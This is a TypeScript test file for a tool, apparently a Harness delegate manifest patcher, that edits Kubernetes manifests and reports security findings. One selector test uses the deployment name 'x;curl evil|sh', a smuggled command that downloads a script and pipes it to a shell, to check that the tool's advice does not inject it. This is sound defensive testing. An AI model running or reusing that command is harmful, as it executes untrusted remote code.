import assert from 'node:assert/strict';
import {describe, test} from 'node:test';
import * as fc from 'fast-check';
import {parseAllDocuments} from 'yaml';
import {planPatch} from '../../../src/domain/patch/plan-patch.ts';
import {PULL_POLICIES, type PatchWishes} from '../../../src/domain/patch/patch-types.ts';
import {
  autoscaler,
  deployment,
  IMAGE,
  join,
  secret,
  SEED_MANIFEST,
  TOKEN,
  upgrader,
} from '../../helpers/patch-manifests.ts';
import {TODAY} from '../../helpers/patch-report.ts';

function plan(text: string, wishes: PatchWishes = {image: IMAGE}, delegate?: string) {
  const result = planPatch({text, file: 'm.yaml', wishes, today: TODAY, ...(delegate && {delegate})});
  assert.ok(result.state === 'planned', JSON.stringify(result));
  return result;
}

const admin = (account: string) =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: admin}\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: ${account}, namespace: delegates}]\n`;
const context = (text: string) => deployment({more: `        securityContext: ${text}\n`});

describe('findings', () => {
  const TABLE: readonly (readonly [
    name: string,
    text: string,
    wishes: PatchWishes,
    codes: readonly string[],
    message?: RegExp,
  ])[] = [
    ['nothing', join(deployment(), upgrader()), {image: 'acme/x:1'}, []],
    ['no upgrader', deployment(), {image: 'acme/x:1'}, ['no-upgrader'], /nothing to suspend/],
    [
      'image of Harness stays',
      join(deployment(), upgrader()),
      {},
      ['harness-image', 'base-old'],
      /name yours with --image/,
    ],
    [
      'base near its end',
      join(deployment(), upgrader()),
      {image: 'acme/x:26.06.89001'},
      ['base-old'],
      /support of 26\.06\.89001 ends on/,
    ],
    [
      'base out of support',
      join(deployment(), upgrader()),
      {image: 'acme/x:26.05.88900-2'},
      ['base-old'],
      /ended on/,
    ],
    [
      'private registry',
      join(deployment(), upgrader()),
      {image: 'r.corp/x:1'},
      ['pull-secret'],
      /--pull-secret NAME/,
    ],
    [
      'private registry with login',
      join(deployment(), upgrader()),
      {image: 'r.corp/x:1', pullSecret: 's'},
      [],
    ],
    [
      'cluster-admin of the default account',
      join(admin('default'), deployment(), upgrader()),
      {image: 'a/x:1'},
      ['cluster-admin'],
      /every pod that runs as the account default/,
    ],
    [
      'cluster-admin of another account',
      join(admin('other'), deployment(), upgrader()),
      {image: 'a/x:1'},
      [],
    ],
    [
      'root',
      join(context('{runAsUser: 0}'), upgrader()),
      {image: 'a/x:1'},
      ['root-uid'],
      /OpenShift refuses it/,
    ],
    ['uid 1001', join(context('{runAsUser: 1001}'), upgrader()), {image: 'a/x:1'}, []],
    [
      'uid 1001 on OpenShift',
      join(context('{runAsUser: 1001}'), upgrader()),
      {image: 'a/x:1', clusterType: 'openshift'},
      ['root-uid'],
      /runAsUser 1001 is refused/,
    ],
    [
      'stray autoscaler',
      join(deployment(), autoscaler({target: 'kubernetes-delegate'}), upgrader()),
      {image: 'a/x:1'},
      ['autoscaler-target'],
      /--fix-autoscaler aims it at east/,
    ],
    ['own autoscaler', join(deployment(), autoscaler(), upgrader()), {image: 'a/x:1'}, []],
    [
      'constant selector',
      join(deployment({selector: '  selector:\n    matchLabels: {harness.io/name: delegate}\n'}), upgrader()),
      {image: 'a/x:1'},
      ['selector-constant'],
      /--fix-selector gives it its own/,
    ],
    [
      'clear token',
      join(deployment({env: `        - {name: DELEGATE_TOKEN, value: ${TOKEN}}\n`}), upgrader()),
      {image: 'a/x:1'},
      ['token-clear'],
      /clear text/,
    ],
    [
      'token in the file',
      join(secret('east-account-token', 'DELEGATE_TOKEN', TOKEN), deployment(), upgrader()),
      {image: 'a/x:1'},
      ['token-in-file'],
      /out of git/,
    ],
    [
      'open token',
      join(secret('east-account-token', 'DELEGATE_TOKEN', '""'), deployment(), upgrader()),
      {image: 'a/x:1'},
      ['token-open'],
      /--token-file FILE/,
    ],
    [
      'another placeholder',
      join(deployment({env: '        - {name: PROXY_HOST, value: <your proxy>}\n'}), upgrader()),
      {image: 'a/x:1'},
      ['placeholder'],
      /put the value there/,
    ],
    [
      'manager open',
      join(deployment().replace('https://app.harness.io', ''), upgrader()),
      {image: 'a/x:1'},
      ['manager-open'],
      /--manager-url/,
    ],
    [
      'upgrader of another workload',
      join(deployment(), upgrader().replace('workloadName: east', 'workloadName: old')),
      {image: 'a/x:1'},
      ['upgrader-config'],
      /names the workload old, and the delegate has east/,
    ],
    [
      'upgrader of another namespace',
      join(
        deployment(),
        upgrader().replace('    namespace: delegates\n    container', '    namespace: old\n    container'),
      ),
      {image: 'a/x:1'},
      ['upgrader-config'],
      /names the namespace old/,
    ],
  ];
  for (const [name, text, wishes, codes, message] of TABLE)
    test(name, () => {
      const {findings} = plan(text, wishes);
      assert.deepEqual(
        findings.map(({code}) => code),
        codes,
      );
      if (message !== undefined) assert.match(findings[0]?.message ?? '', message);
      for (const {message: sentence, source} of findings) {
        assert.match(sentence, /[;,] /);
        assert.ok((source?.line ?? 0) > 0);
        assert.ok(!sentence.includes(TOKEN));
      }
    });

  for (const [name, advice] of [
    ['east', /; run first: kubectl --context=CONTEXT -n delegates delete deployment east$/],
    ['--all', /; delete that one first$/],
    ['x;curl evil|sh', /; delete that one first$/],
  ] as const)
    test(`a selector that changes, of ${name}`, () => {
      const selector = '  selector:\n    matchLabels: {harness.io/name: delegate}\n';
      const text = join(deployment({name, selector}), upgrader());
      const {findings} = plan(text, {image: 'a/x:1', fixSelector: true});
      assert.match(findings.find(({code}) => code === 'selector-immutable')?.message ?? '', advice);
    });

  test('two Deployments with one selector', () => {
    const selector = '  selector:\n    matchLabels: {harness.io/name: east}\n';
    const text = join(deployment(), deployment({name: 'west', selector}), upgrader());
    const {findings} = plan(text, {image: 'a/x:1'}, 'east');
    assert.match(
      findings.find(({code}) => code === 'selector-constant')?.message ?? '',
      /same as that of Deployment west/,
    );
  });
});

const lineOfLast = (text: string, word: string) => text.slice(0, text.lastIndexOf(word)).split('\n').length;

describe('several delegates', () => {
  const text = join(deployment(), deployment({name: 'west'}));
  const twins = join(deployment(), deployment().replace('namespace: delegates', 'namespace: other'));
  const TABLE: readonly (readonly [
    name: string,
    text: string,
    wanted: string | undefined,
    names: readonly string[],
  ])[] = [
    ['none is named', text, undefined, ['east', 'west']],
    ['another is named', text, 'north', ['east', 'west']],
    ['the same name in two namespaces', twins, 'east', ['delegates/east', 'other/east']],
    ['only one, and another is named', deployment(), 'west', ['east']],
  ];
  for (const [name, manifest, delegate, names] of TABLE)
    test(name, () => {
      const result = planPatch({
        text: manifest,
        file: 'm',
        wishes: {},
        today: TODAY,
        ...(delegate && {delegate}),
      });
      assert.ok(result.state === 'choose');
      assert.deepEqual(result.names, names);
      assert.equal(result.problem.flag, '--delegate');
      for (const each of names) assert.ok(result.problem.message.includes(each));
    });

  test('the one that is named is patched, and its upgrader, and no other', () => {
    const both = join(text, upgrader(), upgrader({name: 'west'}));
    const {edits} = plan(both, {image: IMAGE}, 'west');
    assert.deepEqual(
      edits.map(({where}) => where.name),
      ['west', 'west-upgrader-job'],
    );
    assert.equal(plan(twins, {image: IMAGE}, 'other/east').edits[0]?.where.line, lineOfLast(twins, 'image:'));
  });

  test('an upgrader that could be of either is left alone, and told', () => {
    const unclear = upgrader()
      .replace('workloadName: east', 'workloadName: gone')
      .replace('east-upgrader-job', 'job');
    const {edits, findings} = plan(join(text, unclear), {image: 'a/x:1'}, 'west');
    assert.deepEqual(
      edits.map(({code}) => code),
      ['image'],
    );
    assert.ok(findings.some(({code}) => code === 'upgrader-unclear'));
  });
});

describe('account and manager', () => {
  const named = ['accountId', 'managerUrl'] as const;
  const OTHER = {accountId: 'abc', managerUrl: 'https://eu.harness.io/'};
  const asked: PatchWishes = {...OTHER, named};
  const both = 'Deployment ConfigMap';
  const logs = (url: string) => `        - {name: LOG_STREAMING_SERVICE_URL, value: "${url}"}\n`;
  const without = (text: string) => text.replace(/ +- name: MANAGER_HOST_AND_PORT\n.*\n/, '');
  const fromElsewhere = deployment().replace(
    'value: https://app.harness.io',
    'valueFrom: {configMapKeyRef: {name: c, key: m}}',
  );
  const TABLE: readonly (readonly [
    name: string,
    text: string,
    wishes: PatchWishes,
    edited: string,
    result: RegExp,
  ])[] = [
    [
      'others give way to named ones',
      join(deployment(), upgrader()),
      asked,
      `Deployment ${both}`,
      /accountId: abc\n +managerHost: https:\/\/eu\.harness\.io\n/,
    ],
    [
      'others stay, when only gaps are filled',
      join(deployment(), upgrader()),
      OTHER,
      '',
      /managerHost: https:\/\/app/,
    ],
    [
      'one is named, the other fills gaps',
      deployment(),
      {...OTHER, named: ['managerUrl']},
      'Deployment',
      /value: https:\/\/eu\.harness\.io\n/,
    ],
    [
      'the log service of the old manager',
      deployment({env: logs('https://app.harness.io/log-service/')}),
      asked,
      'Deployment Deployment Deployment',
      /"https:\/\/eu\.harness\.io\/log-service\/"/,
    ],
    [
      'a log service elsewhere stays',
      deployment({env: logs('https://logs.corp/')}),
      asked,
      'Deployment Deployment',
      /https:\/\/logs\.corp/,
    ],
    [
      'a variable that is not there',
      without(deployment()),
      asked,
      'Deployment Deployment',
      /- name: MANAGER_HOST_AND_PORT\n +value: https:\/\/eu\.harness\.io\n/,
    ],
    [
      'a variable from elsewhere stays',
      fromElsewhere,
      {...asked, accountId: 'aBcDeFgHiJkLmNoPqRsTuV'},
      '',
      /configMapKeyRef/,
    ],
  ];
  for (const [name, text, wanted, edited, result] of TABLE)
    test(name, () => {
      const first = plan(text, wanted);
      const own = first.edits.filter(({code}) => code === 'account');
      assert.equal(own.map(({where}) => where.kind).join(' '), edited);
      assert.match(first.text, result);
      assert.equal(plan(first.text, wanted).edits.length, 0);
    });

  test('what comes from elsewhere is told', () => {
    const {findings} = plan(fromElsewhere, asked);
    assert.match(
      findings.find(({code}) => code === 'account-kept')?.message ?? '',
      /^takes MANAGER_HOST_AND_PORT from elsewhere, so --manager-url changes nothing here; set it/,
    );
  });
});

describe('tokens', () => {
  const hex = '0123456789abcdef0123456789abcdef';
  const TABLE: readonly (readonly [
    name: string,
    value: string,
    part: string,
    token: string,
    result: string,
  ])[] = [
    ['shown token in data', '""', 'data', TOKEN, `"${TOKEN}"`],
    ['plain token in data', '', 'data', hex, TOKEN],
    ['other token in data', 'PUT_YOUR_DELEGATE_TOKEN', 'data', 'some.other-token', btoa('some.other-token')],
    ['twice encoded token in data', "''", 'data', btoa(TOKEN), `'${TOKEN}'`],
    ['shown token in stringData', '<your token>', 'stringData', TOKEN, TOKEN],
    ['a token that is there stays', 'c29tZS10b2tlbi1oZXJl', 'data', TOKEN, 'c29tZS10b2tlbi1oZXJl'],
  ];
  for (const [name, value, part, token, result] of TABLE)
    test(name, () => {
      const text = join(secret('east-account-token', 'DELEGATE_TOKEN', value, part), deployment());
      assert.ok(plan(text, {token}).text.includes(`DELEGATE_TOKEN: ${result}\n`));
    });

  test('a Secret without the key gets it', () => {
    const text = join(secret('east-account-token', 'OTHER', 'eA=='), deployment());
    assert.match(
      plan(text, {token: TOKEN}).text,
      new RegExp(`\nstringData:\n  DELEGATE_TOKEN: "?${TOKEN}"?\n---`),
    );
  });
});

test('the seed’s own manifest parses to itself plus exactly the edits', () => {
  const {text, findings} = plan(SEED_MANIFEST, {image: IMAGE, token: TOKEN, accountId: 'abc'});
  const objects = (yaml: string) =>
    [...parseAllDocuments(yaml)].map((each) => each.toJS() as Record<string, never>);
  const expected = objects(SEED_MANIFEST) as unknown as any[];
  const of = (kind: string, index = 0) => expected.filter((each) => each.kind === kind)[index];
  of('Secret').data.DELEGATE_TOKEN = TOKEN;
  of('Secret', 1).data.UPGRADER_TOKEN = TOKEN;
  of('Deployment').spec.template.spec.containers[0].image = IMAGE;
  of('Deployment').spec.template.spec.containers[0].env[1].value = 'abc';
  of('ConfigMap').data['config.yaml'] = of('ConfigMap').data['config.yaml'].replace('YOUR_ACCOUNT_ID', 'abc');
  of('CronJob').apiVersion = 'batch/v1';
  assert.deepEqual(objects(text), expected);
  assert.deepEqual(
    findings.filter(({severity}) => severity === 'error'),
    [],
  );
});

const maybe = <T>(value: fc.Arbitrary<T>) => fc.option(value, {nil: undefined});
const wishes = fc
  .record({
    image: maybe(fc.constantFrom(IMAGE, 'acme/x:1')),
    imagePullPolicy: maybe(fc.constantFrom(...PULL_POLICIES)),
    pullSecret: maybe(fc.constant('regcred')),
    securityContext: maybe(
      fc.constantFrom('auto' as const, 'root' as const, 'cluster-uid' as const, 'anyuid' as const),
    ),
    clusterType: maybe(fc.constantFrom('kubernetes' as const, 'openshift' as const)),
    replicas: maybe(fc.integer({min: 1, max: 9})),
    cpu: maybe(fc.constantFrom('0.5', '1', '250m')),
    memory: maybe(fc.constantFrom('4Gi', '2048Mi')),
    accountId: maybe(fc.constant('abc')),
    token: maybe(fc.constant(TOKEN)),
    tokenSecret: maybe(fc.constant('delegate-token')),
    fixAutoscaler: fc.boolean(),
    fixSelector: fc.boolean(),
  })
  .map(
    (all) =>
      Object.fromEntries(Object.entries(all).filter(([, value]) => value !== undefined)) as PatchWishes,
  );
const manifest = fc
  .record({
    parts: fc.subarray([
      secret('east-account-token', 'DELEGATE_TOKEN', '""'),
      secret('east-upgrader-token', 'UPGRADER_TOKEN', 'YOUR_TOKEN # here'),
      autoscaler({target: 'kubernetes-delegate'}),
      autoscaler({version: 'autoscaling/v2beta2'}),
      upgrader({version: 'batch/v1beta1'}),
      '# a comment\n',
      admin('default'),
    ]),
    own: fc.constantFrom(
      deployment(),
      deployment({apiVersion: 'apps/v1beta2', selector: ''}),
      context('{runAsUser: 0, capabilities: {add: [NET_RAW]}} # root'),
      deployment({selector: '  selector:\n    matchLabels: {harness.io/name: delegate}\n'}),
      deployment({more: '        securityContext:\n          runAsUser: 0\n      imagePullSecrets: []\n'}),
    ),
    crlf: fc.boolean(),
  })
  .map(({parts, own, crlf}) => {
    const text = join(...parts, own);
    return crlf ? text.replaceAll('\n', '\r\n') : text;
  });

test('whatever is asked for: it can be done, and doing it twice changes nothing more', () => {
  fc.assert(
    fc.property(manifest, wishes, (text, wanted) => {
      const first = plan(text, wanted);
      assert.deepEqual(first.blocked, []);
      const second = plan(first.text, wanted);
      assert.deepEqual(second.edits, []);
      assert.equal(second.text, first.text);
      if (first.edits.length === 0) assert.equal(first.text, text);
      const comments = (yaml: string) => yaml.match(/# .*/g) ?? [];
      assert.deepEqual(comments(first.text), comments(text));
    }),
    {numRuns: 25},
  );
});
